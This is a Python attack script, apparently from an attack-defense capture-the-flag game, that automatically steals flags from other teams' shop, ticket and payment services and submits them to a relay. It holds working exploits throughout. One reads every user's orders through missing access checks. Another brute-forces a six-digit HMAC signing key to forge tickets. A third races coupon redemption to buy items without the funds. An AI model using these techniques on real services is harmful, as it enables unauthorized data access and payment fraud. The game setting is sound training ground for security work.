"""python3 attacker.py RELAY SERVICE...: takes the flags of these services of all other teams until /tmp/stop is there.

RELAY is ADDRESS:PORT of the door. What the door took is in /tmp/taken, a flag a line.
"""

import concurrent.futures
import hashlib
import hmac
import itertools
import json
import os
import re
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.request

FLAG = re.compile(r"ENSHU_[A-Za-z0-9_-]{40}")
PRICE = 8000
RACERS = 6
open_flags, done = set(), set()


def call(url, body=None, token=""):
    request = urllib.request.Request(url, None if body is None else json.dumps(body).encode(), {"X-Token": token})
    try:
        with urllib.request.urlopen(request, timeout=4) as answer:
            return json.load(answer)
    except (urllib.error.URLError, OSError, ValueError):
        return {}


def found(answer):
    open_flags.update(set(FLAG.findall(answer.get("note", ""))) - done)
    return "note" in answer


class Shop:
    """Whoever is signed in sees every order."""

    def __init__(self, base):
        self.base, self.token, self.next = base, "", 1

    def attack(self):
        self.token = self.token or call(self.base + "/members", {"name": "客"}).get("token", "")
        while self.token and found(call(f"{self.base}/orders/{self.next}", None, self.token)):
            self.next += 1


class Qr:
    """The signing word is six digits: one ticket gives it away, and the gate shows whose seat any number is."""

    def __init__(self, base):
        self.base, self.word, self.next = base, None, 1

    def sign(self, word, text):
        return hmac.digest(word, text.encode(), hashlib.sha256).hex()[:32]

    def attack(self):
        if self.word is None:
            plain, _, signature = call(self.base + "/tickets", {"note": "自分の席"}).get("qr", "").rpartition(":")
            if plain:
                words = (b"%d" % number for number in range(100000, 1000000))
                self.word = next((word for word in words if self.sign(word, plain) == signature), b"")
        while self.word:
            plain = f"{self.next}:0"
            if not found(call(self.base + "/gate", {"qr": plain + ":" + self.sign(self.word, plain)})):
                break
            self.next += 1


class Pay:
    """A coupon asked for many times at once counts many times."""

    def __init__(self, base):
        self.base, self.bought = base, set()

    def attack(self):
        offers = call(self.base + "/offers").get("offers", [])
        wanted = [offer["id"] for offer in offers if offer["price"] == PRICE and offer["id"] not in self.bought]
        for _ in range(4):
            if not wanted:
                return
            wallet = call(self.base + "/wallets", {})
            if not wallet:
                return
            coupon, token = f"{self.base}/coupons/{wallet['coupon']}", wallet["token"]
            with concurrent.futures.ThreadPoolExecutor(RACERS) as pool:
                list(pool.map(lambda _: call(coupon, {}, token), range(RACERS)))
            while wanted and found(call(f"{self.base}/offers/{wanted[-1]}/buy", {}, token)):
                self.bought.add(wanted.pop())


def hand_in(relay):
    flags = sorted(open_flags)
    try:
        with socket.create_connection(relay, 5) as door:
            door.settimeout(10)
            door.sendall("".join(flag + "\n" for flag in flags).encode())
            door.shutdown(socket.SHUT_WR)
            answers = door.makefile().read()
    except OSError:
        return
    with open("/tmp/taken", "a") as taken:
        for line in answers.splitlines():
            flag, _, rest = line.partition(" ")
            verdict = rest.split(" ")[0]
            if flag in open_flags and verdict != "ERR":
                open_flags.discard(flag)
                done.add(flag)
                if verdict in ("OK", "DUP"):
                    taken.write(flag + "\n")


def victims(services):
    kinds = {"shop": Shop, "qr": Qr, "pay": Pay}
    told = subprocess.run(["teams"], capture_output=True, text=True, timeout=20).stdout
    return [kinds[name](base) for name, base in re.findall(r"(shop|qr|pay) (http://\S+)", told) if name in services]


def main():
    host, _, port = sys.argv[1].rpartition(":")
    attacks = victims(sys.argv[2:])
    with concurrent.futures.ThreadPoolExecutor(max(1, len(attacks))) as pool:
        for _ in itertools.takewhile(lambda _: not os.path.exists("/tmp/stop"), range(5000)):
            list(pool.map(lambda victim: victim.attack(), attacks))
            if open_flags:
                hand_in((host, int(port)))
            time.sleep(0.5)


main()
